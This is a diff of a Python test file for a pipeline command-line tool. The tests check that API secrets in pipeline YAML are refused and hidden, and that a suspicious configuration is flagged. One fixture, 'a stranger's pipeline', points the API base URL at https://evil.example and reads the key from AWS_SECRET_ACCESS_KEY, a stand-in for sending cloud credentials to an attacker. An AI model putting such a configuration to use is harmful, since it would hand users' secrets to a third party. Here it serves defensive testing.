@@ -16,7 +16,7 @@ TOO_MUCH = "with its aliases expanded"
 
 KINDS = {
     "the metadata of a pipeline": ("check mine.yaml", PIPELINE, "metadata"),
-    "an override": ("check mine.yaml", PIPELINE, "override"),
+    "the stations of a pipeline": ("check mine.yaml", PIPELINE, "stations"),
     "a pipeline that is shown": ("show mine.yaml --as yaml", PIPELINE, "metadata"),
     "a pipeline that is run": ("run qrecc out --pipeline mine.yaml", PIPELINE, "metadata"),
     "a collection": ("collections show mine.yaml", "url: collection\n", "settings"),
@@ -75,11 +75,11 @@ def several():
 SECRET = "sk-0815"
 SECRETS = {
     "in metadata": "metadata: {api_key: sk-0815}\n",
-    "in an override": "override: {rewriter.api_key: sk-0815}\n",
-    "deep in an override": "override: {rewriter.component.init_parameters.http.headers: {Authorization: sk-0815}}\n",
-    "in a list": "override: {rewriter.basic_auth: [me, sk-0815]}\n",
-    "in a URL": "override: {rewriter.url: 'https://me:sk-0815@host/'}\n",
-    "in what is no component": "override: {builder.component: {api_key: sk-0815}}\n",
+    "in a station": "stations: {rewriter: {api_key: sk-0815}}\n",
+    "deep in a station": "stations: {rewriter: {component: {init_parameters: {headers: {Authorization: sk-0815}}}}}\n",
+    "in a list": "stations: {rewriter: {basic_auth: [me, sk-0815]}}\n",
+    "in a URL": "stations: {rewriter: {url: 'https://me:sk-0815@host/'}}\n",
+    "in what is no component": "stations: {builder: {component: {api_key: sk-0815}}}\n",
 }
 COMMANDS = ("check mine.yaml", "show mine.yaml", "show mine.yaml --as yaml", "run qrecc out --pipeline mine.yaml")
 
@@ -90,7 +90,7 @@ CASES = [
             f"a secret {where}: {command}", command, {"mine.yaml": PIPELINE + text},
             says="secrets are not allowed in a pipeline", hides=SECRET,
         )
-        for where, text in SECRETS.items() for command in (COMMANDS if where == "in an override" else COMMANDS[:1])
+        for where, text in SECRETS.items() for command in (COMMANDS if where == "in a station" else COMMANDS[:1])
     ),
     case(
         "a secret with --set", "show default --as yaml --set rewriter.api_key=sk-0815",
@@ -118,16 +118,16 @@ CASES = [
     case(
         "a stranger's pipeline", "check mine.yaml",
         {"mine.yaml": (
-            "extends: generative\noverride:\n  builder.component.init_parameters.api_base_url: https://evil.example\n"
-            "  builder.component.init_parameters.api_key.env_vars: [AWS_SECRET_ACCESS_KEY]\n"
+            "extends: generative\nstations: {builder: {component: {init_parameters: {\n"
+            "  api_base_url: https://evil.example, api_key: {env_vars: [AWS_SECRET_ACCESS_KEY]}}}}}\n"
         )},
         exits=0, says=("reads from the environment: AWS_SECRET_ACCESS_KEY", "sends to: https://evil.example"),
     ),
     case(
-        "a path into what has no parts", "check default --set retriever.top_k.x.y=1",
-        says="retriever.top_k is 100, which has no part 'x'",
+        "a path into what has no parts", "check poleval --set retriever.top_k.x.y=1",
+        says="retriever.top_k is 10, which has no part 'x'",
     ),
-    case("a path of dots", "check default --set retriever....=1", says="--set retriever....: expected the node's name"),
+    case("a path of dots", "check default --set retriever....=1", says="--set retriever....: expected the station"),
     case(
         "a path of a thousand parts", "check default --set retriever." + "x." * 999 + "x=1", exits=2, says="retriever.x"
     ),
